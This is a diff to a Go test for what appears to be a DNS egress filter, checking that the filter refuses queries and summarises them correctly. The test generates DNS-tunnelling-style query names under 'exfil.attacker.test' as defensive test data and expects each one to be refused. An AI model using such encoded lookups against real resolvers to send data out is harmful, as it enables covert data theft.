@@ -38,6 +38,7 @@ func summaryScenario(t *testing.T, names []string) {
 		t.Fatal(err)
 	}
 	dnsA := net.JoinHostPort(sa.Info.DNS, "53")
+	waitAnswered(t, names[2], dnsA)
 	for i := range summaryNames {
 		name := fmt.Sprintf("x%04d-%s.exfil.attacker.test.", i, strings.Repeat("a", 40))
 		if r, err := queryIn(names[2], "udp", dnsA, name, dns.TypeA); err != nil || r.Rcode != dns.RcodeRefused {
@@ -51,8 +52,8 @@ func summaryScenario(t *testing.T, names []string) {
 	if err != nil {
 		t.Fatal(err)
 	}
-	if sum.Queries != summaryNames+1 || sum.RefusedNames != summaryNames || sum.AllowedNames != 1 ||
-		len(sum.Refused) != api.SummaryNames || sum.Allowed["ok.pkg.test."] != 1 || !sum.Truncated || sum.LogDropped != 0 {
+	if sum.Queries != summaryNames+sum.Allowed["ok.pkg.test."] || sum.RefusedNames != summaryNames || sum.AllowedNames != 1 ||
+		len(sum.Refused) != api.SummaryNames || sum.Allowed["ok.pkg.test."] < 2 || !sum.Truncated || sum.LogDropped != 0 {
 		t.Errorf("summary: queries %d, refused names %d (listed %d), allowed %v, truncated %v, dropped %d",
 			sum.Queries, sum.RefusedNames, len(sum.Refused), sum.Allowed, sum.Truncated, sum.LogDropped)
 	}
